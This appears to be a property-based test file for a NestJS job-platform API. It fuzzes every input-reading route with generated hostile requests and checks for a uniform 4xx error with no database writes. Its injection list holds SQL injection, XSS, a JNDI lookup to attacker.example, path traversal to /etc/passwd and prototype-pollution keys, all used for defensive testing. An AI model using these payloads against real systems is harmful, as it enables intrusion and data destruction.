import { APP_CONFIG, type AppConfig } from '@app/config';
import { ReferenceDataSeeder } from '@app/reference-data';
import { TaxonomyIndexer } from '@app/taxonomy';
import { Test } from '@nestjs/testing';
import type { NestExpressApplication } from '@nestjs/platform-express';
import { getDataSourceToken } from '@nestjs/typeorm';
import fc from 'fast-check';
import request from 'supertest';
import type { DataSource } from 'typeorm';
import type { Role } from '../apps/api/src/access/access.decorator';
import { WorkerModule } from '../apps/worker/src/worker.module';
import { AccountFactory, uniqueEmail } from './factories/account.factory';
import { insertTaxonomyFixture } from './factories/taxonomy.fixture';
import { closeApp, createApiApp } from './utils/api-app';
import { truncateAll } from './utils/database';
import { clearRateLimits } from './utils/rate-limits';
import { discoverApiRoutes, type ApiRoute, type RouteInput } from './utils/routes';
import { WriteLog } from './utils/write-log';

/**
 * Generated hostile requests against every operation that reads input, each as a caller the
 * operation admits. Every request carries at least one thing the API must refuse (a NUL
 * character, an unpaired surrogate, a prototype key, nesting or a value count over the limits, an
 * unknown field, an undecodable path segment), among other hostile values (wrong types, huge
 * strings and arrays, injection strings, invalid ESCO URIs, impossible dates, unicode edge cases)
 * that may or may not be refused. The answer must be a 4xx in the one error body with the request
 * id, and no statement may have written to any table.
 */
const RUNS_PER_OPERATION = 40;

const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype'];
const INJECTIONS = [
  "' OR '1'='1' --",
  "'; DROP TABLE accounts; --",
  '1; SELECT pg_sleep(5)',
  '<script>alert(1)</script>',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '{"$gt": ""}',
  '*:*',
  'AND 1=1 /* */',
];
const INVALID_ESCO_URIS = [
  'http://data.europa.eu/esco/occupation/',
  'http://data.europa.eu/esco/occupation/not-a-uuid',
  'http://data.europa.eu/esco/skill/00000000-0000-4000-8000-00000000ffff',
  'https://evil.example/esco/occupation/7aedaa07-3884-4c5b-88f9-80997b2aa54b',
  'javascript:alert(1)',
  'urn:esco:occupation:1',
];
const IMPOSSIBLE_DATES = [
  '2023-02-29',
  '2024-02-30',
  '2024-13-01',
  '0000-00-00',
  '9999-99-99',
  '2024-04-31',
  '2024-02-30T25:61:61Z',
  '-000001-01-01',
  '+275760-09-13',
];
/**
 * Query values a form or a script may well send, none of which must be refused for its own sake:
 * limits and offsets at and past their bounds, empty and blank values, search syntax, codes of
 * nothing, the other languages, edge days. A read answers them with its result or a 4xx.
 */
const ODD_QUERY_VALUES = [
  '0', '-1', '1.5', '1e309', '2147483648', '9007199254740993', '99999999999999999999', 'NaN', '', ' ',
  'true', '*', '%', '_', "'", '\\', '"', '(', ':', 'a:b', 'NOT x', 'OR', '-', '~', '^',
  'ZZ', 'zz', 'en', 'ar', 'fr', '1900-01-01', '9999-12-31', '2024-02-29', 'İ', '👩‍🔧',
  'x'.repeat(2_000), 'TP-7K2M-9QXD', '00000000-0000-4000-8000-000000000000',
  'http://data.europa.eu/esco/occupation/00000000-0000-4000-8000-000000000000',
];
const UNICODE_EDGES = ['\u202e', '\ufeff', '\u200b', 'e\u0301', '👩‍🔧', '\uffff', '\u2028', 'İ', 'ß', '\u0085'];
const LONE_SURROGATES = ['\ud800', '\udbff', '\udc00', '\udfff', '\udc00\ud800'];

const textArb: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...INJECTIONS, ...INVALID_ESCO_URIS, ...IMPOSSIBLE_DATES, ...UNICODE_EDGES),
  fc.string({ maxLength: 30 }),
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.integer({ min: 1_000, max: 120_000 }).map((length) => 'x'.repeat(length)),
);

const hostileValueArb: fc.Arbitrary<unknown> = fc.oneof(
  textArb,
  fc.constantFrom(...LONE_SURROGATES),
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.integer({ min: 100, max: 20_000 }).map((length) => new Array<number>(length).fill(0)),
  fc.array(textArb, { maxLength: 5 }),
  fc.dictionary(fc.string({ maxLength: 10 }), textArb, { maxKeys: 4 }),
);

const queryValueArb: fc.Arbitrary<string> = fc.oneof(
  textArb.filter((text) => text.length < 30_000),
  fc.integer().map(String),
  fc.constantFrom('true', 'false', '-1', '1e309', 'NaN', ''),
);

/** A path segment, encoded: a well-formed id, or hostile text that still names this route. */
const segmentArb: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('00000000-0000-4000-8000-000000000000', 'TP-7K2M-9QXD', 'NL', 'DE'),
  textArb
    .filter((text) => !['', '.', '..'].includes(text) && text.length < 2_000)
    .map((text) => encodeText(text)),
);

interface HostileRequest {
  params: Record<string, string>;
  query: [string, string][];
  body?: Record<string, unknown>;
  /** What must be refused, for the failure report. */
  poison: string;
}

type Poison = (request: HostileRequest) => HostileRequest;

/** UTF-8 percent-encoding that never throws (an unpaired surrogate goes as U+FFFD, as browsers do). */
function encodeText(text: string): string {
  return [...Buffer.from(text, 'utf8')]
    .map((byte) =>
      /[A-Za-z0-9\-_~]/.test(String.fromCharCode(byte))
        ? String.fromCharCode(byte)
        : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`,
    )
    .join('');
}

/** An own key, even `__proto__`, as JSON.parse creates it. */
function withKey(object: Record<string, unknown> | undefined, key: string, value: unknown) {
  const copy = { ...object };
  Object.defineProperty(copy, key, { value, enumerable: true, configurable: true, writable: true });
  return copy;
}

function nested(depth: number, asObject: boolean): unknown {
  let value: unknown = 'bottom';
  for (let level = 0; level < depth; level += 1) value = asObject ? { a: value } : [value];
  return value;
}

const nulTextArb = fc
  .tuple(fc.string({ maxLength: 12 }), fc.string({ maxLength: 12 }))
  .map(([before, after]) => `${before}\u0000${after}`);
const surrogateTextArb = fc
  .tuple(fc.string({ maxLength: 12 }), fc.constantFrom(...LONE_SURROGATES), fc.string({ maxLength: 12 }))
  .map(([before, lone, after]) => `${before}${lone}${after}`);

function unknownKeyArb(fields: string[]): fc.Arbitrary<string> {
  return fc
    .stringMatching(/^[a-z][A-Za-z0-9]{0,15}$/)
    .filter((key) => !fields.includes(key) && !PROTOTYPE_KEYS.includes(key));
}

/** Puts a bad string straight in a field, inside an array or object under it, or in a key. */
function placedTextArb(keys: string[], bad: fc.Arbitrary<string>): fc.Arbitrary<Poison> {
  return fc
    .tuple(fc.constantFrom(...keys), bad, fc.constantFrom('direct', 'array', 'object', 'key'))
    .map(([key, text, place]): Poison => {
      const value =
        place === 'direct'
          ? text
          : place === 'array'
            ? ['ok', text]
            : place === 'object'
              ? { a: text }
              : { [text]: 1 };
      return (base) => ({
        ...base,
        body: withKey(base.body, key, value),
        poison: `${place} ${JSON.stringify(text)} at ${key}`,
      });
    });
}

function bodyPoisonArb(fields: string[] | null): fc.Arbitrary<Poison> {
  const keys = fields && fields.length > 0 ? fields : ['value'];
  const poisons: fc.Arbitrary<Poison>[] = [
    placedTextArb(keys, nulTextArb),
    placedTextArb(keys, surrogateTextArb),
    fc
      .tuple(fc.constantFrom(...PROTOTYPE_KEYS), fc.constantFrom('', ...keys))
      .map(([key, under]): Poison => (base) => ({
        ...base,
        body: under
          ? withKey(base.body, under, withKey({}, key, { admin: true }))
          : withKey(base.body, key, { admin: true }),
        poison: `key ${key} ${under ? `under ${under}` : 'at the top'}`,
      })),
    fc
      .tuple(fc.constantFrom(...keys), fc.integer({ min: 13, max: 3_000 }), fc.boolean())
      .map(([key, depth, asObject]): Poison => (base) => ({
        ...base,
        body: withKey(base.body, key, nested(depth, asObject)),
        poison: `${depth} levels of ${asObject ? 'objects' : 'arrays'} at ${key}`,
      })),
    fc
      .tuple(fc.constantFrom(...keys), fc.integer({ min: 10_001, max: 15_000 }))
      .map(([key, length]): Poison => (base) => ({
        ...base,
        body: withKey(base.body, key, new Array<number>(length).fill(0)),
        poison: `${length} values at ${key}`,
      })),
  ];
  if (fields) {
    poisons.push(
      fc.tuple(unknownKeyArb(fields), hostileValueArb).map(([key, value]): Poison => (base) => ({
        ...base,
        body: withKey(base.body, key, value),
        poison: `unknown field ${key}`,
      })),
    );
  }
  return fc.oneof(...poisons);
}

function queryPoisonArb(input: RouteInput): fc.Arbitrary<Poison> {
  const keys = input.name ? [input.name] : input.fields?.length ? input.fields : ['value'];
  const addPair =
    (key: string, value: string, poison: string): Poison =>
    (base) => ({
      ...base,
      query: [...base.query, [key, value]],
      poison,
    });
  const poisons: fc.Arbitrary<Poison>[] = [
    fc
      .tuple(fc.constantFrom(...keys), nulTextArb)
      .map(([key, text]) => addPair(key, text, `NUL in query ${key}`)),
  ];
  if (!input.name) {
    poisons.push(
      fc.constantFrom(...PROTOTYPE_KEYS).map((key) => addPair(key, 'x', `query key ${key}`)),
      fc
        .tuple(unknownKeyArb(input.fields ?? []), queryValueArb)
        .map(([key, value]) => addPair(key, value, `unknown query field ${key}`)),
    );
  }
  return fc.oneof(...poisons);
}

function paramPoisonArb(names: string[]): fc.Arbitrary<Poison> {
  return fc
    .tuple(
      fc.constantFrom(...names),
      fc.oneof(
        nulTextArb.map(encodeText),
        fc.constantFrom('%E0%A4%A', '%ED%A0%80', '%C0%AF', '%FF', '%', '%G1', 'TP-%ZZ'),
      ),
    )
    .map(([name, segment]): Poison => (base) => ({
      ...base,
      params: { ...base.params, [name]: segment },
      poison: `path parameter ${name} = ${segment}`,
    }));
}

function hostileRequestArb(route: ApiRoute, pathParams: string[]): fc.Arbitrary<HostileRequest> {
  const body = route.inputs.find((input) => input.source === 'body');
  const queries = route.inputs.filter((input) => input.source === 'query');
  const bodyFields = body?.fields ?? null;
  const queryKeys = queries.flatMap((input) => (input.name ? [input.name] : (input.fields ?? [])));

  const base = fc.record({
    params: fc
      .tuple(...pathParams.map(() => segmentArb))
      .map((segments) => Object.fromEntries(pathParams.map((name, index) => [name, segments[index]]))),
    query: fc
      .subarray(queryKeys)
      .chain((keys) =>
        fc
          .tuple(...keys.map(() => queryValueArb))
          .map((values) => keys.map((key, index): [string, string] => [key, values[index]])),
      ),
    body: body
      ? bodyFields
        ? fc
            .subarray(bodyFields)
            .chain((keys) =>
              fc
                .tuple(...keys.map(() => hostileValueArb))
                .map((values) =>
                  keys.reduce<Record<string, unknown>>(
                    (object, key, index) => withKey(object, key, values[index]),
                    {},
                  ),
                ),
            )
        : fc.dictionary(fc.string({ maxLength: 10 }), hostileValueArb, { maxKeys: 3 })
      : fc.constant(undefined),
    poison: fc.constant(''),
  });

  const poisons: fc.Arbitrary<Poison>[] = [];
  if (body) poisons.push(bodyPoisonArb(bodyFields));
  for (const query of queries) poisons.push(queryPoisonArb(query));
  if (pathParams.length > 0) poisons.push(paramPoisonArb(pathParams));
  return fc.tuple(base, fc.oneof(...poisons)).map(([request, poison]) => poison(request));
}

function urlOf(route: ApiRoute, hostile: HostileRequest): string {
  const path = route.path.replace(/:([A-Za-z0-9_]+)/g, (_, name: string) => hostile.params[name]);
  const query = hostile.query.map(([key, value]) => `${encodeText(key)}=${encodeText(value)}`).join('&');
  return query ? `${path}?${query}` : path;
}

function pathParamsOf(route: ApiRoute): string[] {
  return [...route.path.matchAll(/:([A-Za-z0-9_]+)/g)].map((match) => match[1]);
}

describe('hostile input, generated, against every operation', () => {
  let sut: NestExpressApplication;
  let dataSource: DataSource;
  let writeLog: WriteLog;
  let documentedDetailKeys: string[];
  const tokens = new Map<Role, string>();

  beforeAll(async () => {
    sut = await createApiApp();
    dataSource = sut.get(getDataSourceToken());
    await truncateAll(dataSource);
    await clearRateLimits(sut.get<AppConfig>(APP_CONFIG));
    await sut.get(ReferenceDataSeeder).seed();
    await insertTaxonomyFixture(dataSource);
    const factory = new AccountFactory(sut);
    const admin = await factory.admin();
    const employer = await factory.employer(admin);
    await dataSource.query(
      `UPDATE employer_organisations SET status = 'verified'
          WHERE id = (SELECT employer_organisation_id FROM accounts WHERE id = $1)`,
      [employer.id],
    );
    tokens.set('admin', admin.accessToken);
    tokens.set('employer', employer.accessToken);
    tokens.set('ncp', (await factory.ncp(admin, 'NL')).accessToken);
    tokens.set('candidate', (await factory.candidate()).accessToken);
    const document = await request(sut.getHttpServer()).get('/api/v1/openapi.json').expect(200);
    documentedDetailKeys = Object.keys(document.body.components.schemas.ErrorDetail.properties);
    writeLog = new WriteLog(dataSource);
    await writeLog.start();
  });

  afterAll(async () => {
    await writeLog?.stop();
    await closeApp(sut);
  });

  /**
   * The searches run against real indexes, as in production: a worker creates them and builds the
   * taxonomy's from the fixture concepts. Not in `beforeAll`: a running worker writes, and the
   * first tests require that nothing but the request does.
   */
  async function buildSearchIndexes(): Promise<void> {
    const worker = await Test.createTestingModule({ imports: [WorkerModule] }).compile();
    await worker.init();
    try {
      await worker.get(TaxonomyIndexer).rebuild();
    } finally {
      await worker.close();
    }
  }

  let swept = 0;
  /**
   * One request of a sweep, as `role` (or anyone): the rate limits are cleared every 100 requests, so
   * that no answer is a 429 for the sweep's own volume.
   */
  async function sweep(role: Role | undefined, build: () => request.Test): Promise<request.Response> {
    if (swept % 100 === 0) await clearRateLimits(sut.get<AppConfig>(APP_CONFIG));
    swept += 1;
    const call = build();
    return role ? call.auth(tokens.get(role)!, { type: 'bearer' }) : call;
  }

  const operations = () =>
    discoverApiRoutes(sut).filter(
      (route) => route.rule && (route.inputs.length > 0 || pathParamsOf(route).length > 0),
    );

  it('finds the operations that read input, with the fields of their DTOs', () => {
    const found = operations();
    expect(found.length).toBeGreaterThan(40);
    const login = found.find((route) => route.path === '/api/v1/auth/login');
    expect(login?.inputs).toEqual([{ source: 'body', name: undefined, fields: ['email', 'password'] }]);
    const audit = found.find((route) => route.path === '/api/v1/admin/audit-events');
    expect(audit?.inputs[0]).toMatchObject({
      source: 'query',
      fields: expect.arrayContaining(['targetType']),
    });
  });

  it('sees every write statement, so that "nothing written" means something', async () => {
    await writeLog.clear();
    await request(sut.getHttpServer())
      .post('/api/v1/auth/register')
      .send({ email: uniqueEmail('candidate') })
      .expect(202);
    expect(await writeLog.writes()).toEqual(
      expect.arrayContaining(['accounts INSERT', 'audit_events INSERT', 'outbox_messages INSERT']),
    );
  });

  it('refuses every generated hostile request in the one error body, writing nothing', async () => {
    const failures: string[] = [];
    for (const route of operations()) {
      const rule = route.rule;
      if (!rule) continue;
      const token = rule.kind === 'roles' ? tokens.get(rule.roles[0]) : undefined;
      const method = route.method.toLowerCase() as 'get' | 'post' | 'put' | 'patch' | 'delete';
      const result = await fc.check(
        fc.asyncProperty(hostileRequestArb(route, pathParamsOf(route)), async (hostile) => {
          await writeLog.clear();
          let call = request(sut.getHttpServer())[method](urlOf(route, hostile));
          if (token) call = call.auth(token, { type: 'bearer' });
          if (hostile.body !== undefined) {
            call = call.set('content-type', 'application/json').send(JSON.stringify(hostile.body));
          }
          const response = await call;
          const where = `${route.method} ${route.path} with ${hostile.poison}`;
          if (response.status < 400 || response.status >= 500 || [401, 403].includes(response.status)) {
            throw new Error(
              `${where}: answered ${response.status} ${JSON.stringify(response.body).slice(0, 300)}`,
            );
          }
          const error = (response.body as { error?: Record<string, unknown> }).error;
          const requestId = response.headers['x-request-id'];
          if (
            !error ||
            typeof error.code !== 'string' ||
            !/^[A-Z][A-Z0-9_]+$/.test(error.code) ||
            typeof error.message !== 'string' ||
            !/^[0-9a-f-]{36}$/.test(String(requestId)) ||
            error.requestId !== requestId ||
            Object.keys(error).some((key) => !['code', 'message', 'details', 'requestId'].includes(key))
          ) {
            throw new Error(
              `${where}: not the one error body: ${response.status} ${JSON.stringify(response.body).slice(0, 300)}`,
            );
          }
          const details = (error.details ?? []) as Record<string, unknown>[];
          const undocumented = details.flatMap((detail) =>
            Object.keys(detail).filter((key) => !documentedDetailKeys.includes(key)),
          );
          if (undocumented.length > 0)
            throw new Error(`${where}: undocumented detail keys ${undocumented.join(', ')}`);
          const writes = await writeLog.writes();
          if (writes.length > 0)
            throw new Error(`${where}: answered ${response.status} but wrote ${writes.join(', ')}`);
        }),
        { numRuns: RUNS_PER_OPERATION, endOnFailure: true },
      );
      // Not fast-check's own report: it would print the counterexample, thousands of levels deep.
      if (result.failed) {
        const error =
          result.errorInstance instanceof Error ? result.errorInstance.message : String(result.errorInstance);
        failures.push(`${error} (seed ${result.seed}, path ${result.counterexamplePath})`);
      }
    }
    expect(failures).toEqual([]);
  }, 900_000);

  it('answers odd but well-formed query values on every read without a path parameter, never with a failure', async () => {
    await buildSearchIndexes();
    const failures: string[] = [];
    let sent = 0;
    const reads = discoverApiRoutes(sut).filter(
      (route) => route.method === 'GET' && route.rule && pathParamsOf(route).length === 0,
    );
    for (const route of reads) {
      const rule = route.rule!;
      const callers = rule.kind === 'roles' ? rule.roles.filter((role) => tokens.has(role)) : [undefined];
      const keys = route.inputs
        .filter((input) => input.source === 'query')
        .flatMap((input) => (input.name ? [input.name] : (input.fields ?? [])));
      const queries: Record<string, string>[] = [
        {},
        ...keys.flatMap((key) => ODD_QUERY_VALUES.map((value) => ({ [key]: value }))),
      ];
      for (const role of callers)
        for (const query of queries) {
          sent += 1;
          const response = await sweep(role, () => request(sut.getHttpServer()).get(route.path).query(query));
          if (response.status >= 500)
            failures.push(
              `${role ?? 'anyone'} GET ${route.path} ${JSON.stringify(query).slice(0, 60)}: ${response.status} ${JSON.stringify(response.body).slice(0, 200)}`,
            );
        }
    }
    expect(sent).toBeGreaterThan(1_000);
    expect(failures).toEqual([]);
  }, 900_000);

  it('answers null, an empty list or object in any body field of any operation, never with a failure', async () => {
    await buildSearchIndexes();
    const failures: string[] = [];
    let sent = 0;
    const writes = discoverApiRoutes(sut).filter(
      (route) => route.rule && route.inputs.some((input) => input.source === 'body' && input.fields?.length),
    );
    for (const route of writes) {
      const rule = route.rule!;
      const role = rule.kind === 'roles' ? rule.roles[0] : undefined;
      const fields = route.inputs.find((input) => input.source === 'body')!.fields!;
      const path = route.path.replace(/:[A-Za-z0-9_]+/g, '00000000-0000-4000-8000-000000000000');
      const method = route.method.toLowerCase() as 'post' | 'put' | 'patch';
      for (const field of fields)
        for (const value of [null, [], {}, [null], [{}]]) {
          sent += 1;
          const response = await sweep(role, () =>
            request(sut.getHttpServer())
              [method](path)
              .timeout(60_000)
              .set('content-type', 'application/json')
              .send(JSON.stringify({ [field]: value })),
          );
          if (response.status >= 500)
            failures.push(`${route.method} ${route.path} ${field}=${JSON.stringify(value)}: ${response.status}`);
        }
    }
    expect(sent).toBeGreaterThan(500);
    expect(failures).toEqual([]);

    // A page size of null once sent the search's paging into an endless loop; a name of null, a
    // profile to a NOT NULL column. Both are refused, naming the field.
    const employer = tokens.get('employer')!;
    const paged = await request(sut.getHttpServer())
      .post('/api/v1/search/talent')
      .timeout(60_000)
      .auth(employer, { type: 'bearer' })
      .send({ limit: null })
      .expect(400);
    expect(paged.body.error.details).toEqual([{ field: 'limit', reason: 'limit must not be null' }]);
    const named = await request(sut.getHttpServer())
      .patch('/api/v1/candidates/me')
      .auth(tokens.get('candidate')!, { type: 'bearer' })
      .send({ givenName: null, skills: null })
      .expect(400);
    expect(named.body.error.details).toEqual([
      { field: 'givenName', reason: 'givenName must not be null' },
      { field: 'skills', reason: 'skills must not be null' },
    ]);
  }, 900_000);
});
